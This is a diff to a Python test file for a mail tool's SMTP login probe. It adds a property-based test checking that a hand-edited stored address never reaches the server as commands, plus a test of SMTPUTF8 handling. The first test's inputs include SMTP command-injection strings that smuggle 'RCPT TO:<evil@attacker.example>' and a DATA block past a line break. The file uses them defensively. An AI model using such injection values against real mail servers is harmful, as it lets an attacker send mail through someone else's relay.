@@ -18,7 +18,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from hypothesis import example, given
+from hypothesis import HealthCheck, example, given
 from hypothesis import settings as hyp_settings
 from hypothesis import strategies as st
 
@@ -232,6 +232,71 @@ def test_probe_logs_in_without_sending(cli: Cli, home: Path, smtp_server_factory
     assert [a.ok for a in server.auth_attempts] == [False, True]
     assert server.messages == []
     assert "login test ok" in cli("status", "--probe").stdout
+
+
+# What a staff row written into the database by hand may hold where the address goes.
+_STORED_BY_HAND = st.sampled_from(
+    [
+        "jd@agency.test",
+        ">",
+        "\r\n",
+        "\n",
+        "\r",
+        " ",
+        "\x00",
+        "jd@agency.test>\r\nRCPT TO:<evil@attacker.example>\r\nDATA\r\n\r\nstolen\r\n.\r\n"
+        "MAIL FROM:<jd@agency.test",
+        "jd@agency.test> SIZE=1\r\nRCPT TO:<evil@attacker.example>",
+        "jd@agency.test\nRCPT TO:<evil@attacker.example>",
+        "jd@agency.test\rRCPT TO:<evil@attacker.example>",
+        "jd@agency.test\u2028RCPT TO:<evil@attacker.example>",
+        "jd@agency.test, evil@attacker.example",
+        "Jane <jd@agency.test>",
+    ]
+)
+
+
+@hyp_settings(max_examples=15, deadline=None, suppress_health_check=list(HealthCheck))
+@given(username=st.lists(_STORED_BY_HAND, min_size=1, max_size=6).map("".join))
+def test_probe_never_writes_a_bad_stored_address_into_a_command(
+    cli: Cli, home: Path, smtp_server: SMTPTestServer, username: str
+) -> None:
+    """A relay is asked with MAIL FROM whether it takes the account's address; an address
+    written into the database by hand that is not one valid address never reaches the
+    server (a line break in it would start commands of its own: a message to anyone)."""
+    from cpmail.addresses import valid_address
+    from cpmail.store.schema import staff
+
+    if not (home / "cpmail.toml").exists():
+        setup_smtp(cli, smtp_server)
+    engine = connect(Settings.load(home).db_url, where="test")
+    with engine.begin() as conn:
+        conn.execute(staff.update().where(staff.c.id == "JD").values(username=username))
+    smtp_server.reset()
+    code, doc = status(cli, "--probe")
+    commands = b"".join(smtp_server.reads)
+    assert smtp_server.messages == []
+    assert commands.count(b"MAIL FROM:") <= 1 and b"RCPT TO" not in commands
+    if valid_address(username):
+        assert code == 0 and doc["accounts"][0]["probe"] == "ok", doc["accounts"]
+    else:
+        assert code == 3 and b"MAIL FROM" not in commands, commands
+        assert repr(username) in doc["accounts"][0]["probe"], doc["accounts"]
+
+
+def test_probe_asks_for_an_international_sender_with_smtputf8(
+    cli: Cli, home: Path, smtp_server: SMTPTestServer
+) -> None:
+    """As a delivery does (RFC 6531); a server without SMTPUTF8 cannot take its mail."""
+    setup_smtp(cli, smtp_server)
+    assert cli("staff", "edit", "JD", "--work-email", "jürgen@agency.test").exit_code == 0
+    code, doc = status(cli, "--probe")
+    assert code == 0, doc["accounts"]
+    [mail] = [r for r in smtp_server.reads if b"MAIL FROM" in r]
+    assert mail == "MAIL FROM:<jürgen@agency.test> SMTPUTF8\r\n".encode()
+    smtp_server._controller.SMTP_kwargs["enable_SMTPUTF8"] = False  # (read per connection)
+    code, doc = status(cli, "--probe")
+    assert code == 3 and "no SMTPUTF8" in doc["accounts"][0]["probe"], doc["accounts"]
 
 
 def test_mail_that_fails_after_a_long_pause_counts_as_failed_lately(
